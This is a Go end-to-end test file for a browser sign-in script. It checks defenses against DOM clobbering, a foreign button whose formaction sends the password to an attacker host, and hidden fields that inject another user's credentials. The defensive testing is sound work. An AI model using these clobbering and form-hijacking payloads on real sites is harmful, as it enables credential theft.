package e2e

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// original has the test itself see the document as the platform made it, whatever stands in the page.
const original = `window.page = new Proxy(document, { get(target, name) {
	const member = Reflect.get(Document.prototype, name, target);
	return typeof member === "function" ? member.bind(target) : member;
} });`

// members are the names of all that the platform lets a page ask of a document, a form or the window.
const members = `[...new Set([Document, Node, Element, HTMLElement, HTMLFormElement, EventTarget].flatMap((type) => Object.getOwnPropertyNames(type.prototype))
	.concat(Object.getOwnPropertyNames(window), "Go", "fs", "process", "path", "scope", "bridge", "keygenAuth", "requestIdleCallback", "id", "name"))]
	.filter((name) => /^\w+$/.test(name))`

// TestShadowedMembers has what a visitor may have written into a page, in front of the script tag, hide members of the
// document, of the window and of the login form, each by its name, with settings of an attacker: the page signs in where
// its owner said, shows it, and signs out.
func TestShadowedMembers(t *testing.T) {
	t.Parallel()
	for _, kind := range []struct{ name, element string }{
		{"images", `<img name="%[1]s" id="%[1]s" data-account="demo" data-host="%[2]s" src="/elsewhere/keygen-auth.js" alt="">`},
		{"forms", `<form name="%[1]s" data-account="demo" data-host="%[2]s"></form>`},
		{"embedded things", `<embed name="%[1]s" data-account="demo" data-host="%[2]s">`},
		{"objects", `<object name="%[1]s" id="%[1]s" data-account="demo" data-host="%[2]s"></object>`},
		{"frames", `<iframe name="%[1]s" data-account="demo" data-host="%[2]s"></iframe>`},
		{"fields of the form", `<input type="hidden" name="%[1]s" value="%[2]s">`},
		{"fields of another form by id", `<input form="login" type="hidden" id="%[1]s" value="%[2]s">`},
	} {
		t.Run(kind.name, func(t *testing.T) {
			t.Parallel()
			s := newStage(t, map[string]string{"plain.html": "<!doctype html><title>Page</title>"})
			host := "http://" + attacker(t)
			s.open("/plain.html")
			names := eval[[]string](s.tab, members)
			require.Greater(t, len(names), 300)
			if kind.name == "frames" { // each is a document: what decides where a password goes will do
				names = strings.Fields("currentScript querySelector querySelectorAll forms addEventListener documentElement baseURI readyState " +
					"createElement dispatchEvent body head defaultView cookie activeElement visibilityState contains getElementById URL")
			}
			var content strings.Builder
			for _, name := range names {
				fmt.Fprintf(&content, kind.element, name, host)
			}
			before, form := content.String(), tutorialForm
			if strings.HasPrefix(kind.name, "fields of the") {
				before, form = "", strings.Replace(form, `<form id="login">`, `<form id="login">`+before, 1)
			}
			s.files["form.html"] = file("<!doctype html><html lang=en><title>Page</title><body>" + before +
				`<script src="keygen-auth.js" ` + configuration + `></script>` + strings.Replace(member, tutorialForm, form, 1) +
				`<button id="out-now" data-keygen-action="sign-out">Sign out</button>`)
			s.atStart(original + listening)
			s.open("/form.html")
			const state = `page.documentElement.getAttribute("data-keygen-state")`
			s.until(state + ` === "signed-out"`)
			s.do(fmt.Sprintf(`for (const [name, value] of Object.entries({ email: %s, password: %s }))
				page.querySelector("#login #" + name).value = value;
				HTMLFormElement.prototype.requestSubmit.call(page.querySelector("#login"))`, quote(s.demo.Plain.Email), quote(s.demo.Plain.Password)))
			s.until(state + ` === "signed-in"`)
			s.until(`page.querySelector("b").textContent === ` + quote(s.demo.Plain.Email))
			assert.Len(t, s.logins(), 1)
			assert.Equal(t, s.url+"/form.html", eval[string](s.tab, `location.href`))
			assert.True(t, eval[bool](s.tab, `page.querySelector("#in").checkVisibility() && !page.querySelector("#out").checkVisibility()`))

			s.do(`page.querySelector("#out-now").click()`)
			s.until(state + ` === "signed-out"`)
			s.untilRevoked(s.demo.Plain)
			assert.Equal(t, []string{"signed-in", "signed-out user"}, s.happened())
		})
	}
}

// TestShadowingTargets clicks, points and types where forms hide the members that a listener asks of an event's target.
func TestShadowingTargets(t *testing.T) {
	t.Parallel()
	s := newStage(t, map[string]string{"form.html": document(`data-load="eager"`,
		`<form id="theirs" action="#"><input name="closest"><input name="matches"><input name="getAttribute"><input name="hasAttribute"></form>`+
			`<form id="shown" data-keygen-show="signed-in" action="#"><input name="hidden"><input name="getAttribute"><input name="setAttribute">`+
			`<input name="toggleAttribute"></form>`+member)})
	s.open("/form.html")
	s.until(`document.querySelector("#login").hasAttribute("method")`)
	s.do(`for (const type of ["click", "focusin", "pointerdown", "input"])
		for (const target of [document.querySelector("#theirs"), document, window])
			target.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }))`)
	assert.False(t, eval[bool](s.tab, `document.querySelector("#shown").checkVisibility()`))
	s.signIn(s.demo.Plain.Email, s.demo.Plain.Password)
	s.untilSignedIn()
	s.until(`document.querySelector("#shown").checkVisibility()`)
	assert.Empty(t, s.lines())
}

// TestForeignButton presses a button that content elsewhere in the page ties to the sign-in form, on a site without a
// policy: the password does not go where it says.
func TestForeignButton(t *testing.T) {
	t.Parallel()
	s := newStage(t, nil)
	s.files["form.html"] = file(document("", `<button id="theirs" form="login" formaction="http://`+attacker(t)+`/">Win</button>`+tutorialForm))
	s.strange("")
	s.open("/form.html")
	s.fill(s.demo.Plain.Email, s.demo.Plain.Password)
	s.click("#theirs")
	s.until(`document.querySelector("form").ariaBusy === "true"`)
	assert.Equal(t, s.url+"/form.html", eval[string](s.tab, `location.href`))
}

// TestForeignFields has content elsewhere in the page tie fields to the sign-in form, with the names of its own and the
// credentials of somebody else: the visitor is signed in by what they typed, or nobody is.
func TestForeignFields(t *testing.T) {
	t.Parallel()
	const outside = `<form id="login"></form><input name="email" id="email" form="login">
		<input type="password" name="password" id="password" form="login"><button form="login">Sign in</button>`
	for _, test := range []struct {
		name, form string
		signsIn    bool
	}{
		{"fields in the form", tutorialForm, true},
		{"fields without names", strings.NewReplacer(`name="email"`, "", `name="password"`, "").Replace(tutorialForm), true},
		{"a form around rows", `<table><form id="login"><tr><td><input name="email" id="email"></tr><tr><td><input type="password" name="password" id="password"></tr>
			<tr><td><button>Sign in</button></tr></form></table>`, true},
		{"fields tied by form=", outside, false},
	} {
		for place, page := range map[string]string{"before": "%[1]s%[2]s", "behind": "%[2]s%[1]s"} {
			t.Run(test.name+", "+place, func(t *testing.T) {
				t.Parallel()
				s := newStage(t, nil)
				theirs := fmt.Sprintf(`<input form="login" type="hidden" name="email" value="%s"><input form="login" type="hidden" name="password" value="%s">`,
					s.demo.TwoFactor.Email, s.demo.TwoFactor.Password)
				s.files["form.html"] = file(document(`data-load="lazy"`, fmt.Sprintf(page, theirs, test.form)))
				if !test.signsIn {
					s.allow("CONFIG_INVALID")
				}
				s.open("/form.html")
				s.fill(s.demo.Plain.Email, s.demo.Plain.Password)
				s.click("button")
				if !test.signsIn {
					s.untilSays(saysSetup)
					assert.Empty(t, s.logins())
					return
				}
				s.untilSignedIn()
				assert.Equal(t, s.demo.Plain.ID, eval[string](s.tab, `keygenAuth.session.userId`))
			})
		}
	}
}
